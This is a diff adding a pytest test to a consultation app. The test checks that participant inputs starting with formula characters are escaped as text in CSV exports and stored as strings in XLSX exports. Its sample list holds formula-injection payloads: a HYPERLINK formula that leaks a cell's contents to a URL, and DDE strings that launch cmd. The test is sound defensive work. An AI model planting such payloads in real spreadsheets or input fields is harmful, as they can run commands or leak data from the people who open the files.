@@ -220,3 +220,32 @@ def test_the_export_paper_command_writes_each_format(world, tmp_path, fmt):
         assert content.decode().startswith(f"# {world.consultation.title}")
     else:
         assert json.loads(content)["version"] == 1
+
+
+FORMULAS = [
+    '=HYPERLINK("http://127.0.0.1/?leak="&B2,"Open source document")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+]
+
+
+def test_participants_formulas_stay_text_in_the_csv_and_xlsx(
+    world, django_capture_on_commit_callbacks
+):
+    for text in FORMULAS:
+        InputFactory(session=world.session, issue=world.issue, organisation=world.ngo, text=text)
+    paper = aggregate(world).paper
+
+    with django_capture_on_commit_callbacks(execute=True):
+        as_csv = exporting.export_request(paper=paper, user=world.staff, format="csv", filters={})
+        as_xlsx = exporting.export_request(paper=paper, user=world.staff, format="xlsx", filters={})
+
+    for export in (as_csv, as_xlsx):
+        export.refresh_from_db()
+    rows = list(csv.DictReader(io.StringIO(as_csv.file.open("rb").read().decode("utf-8-sig"))))
+    assert sorted(r["text"] for r in rows) == sorted("'" + text for text in FORMULAS)
+    workbook = load_workbook(as_xlsx.file.open("rb"))
+    cells = [row[-1] for row in workbook.active.iter_rows(min_row=2)]
+    assert sorted(cell.value for cell in cells) == sorted(FORMULAS)
+    assert {cell.data_type for cell in cells} == {"s"}
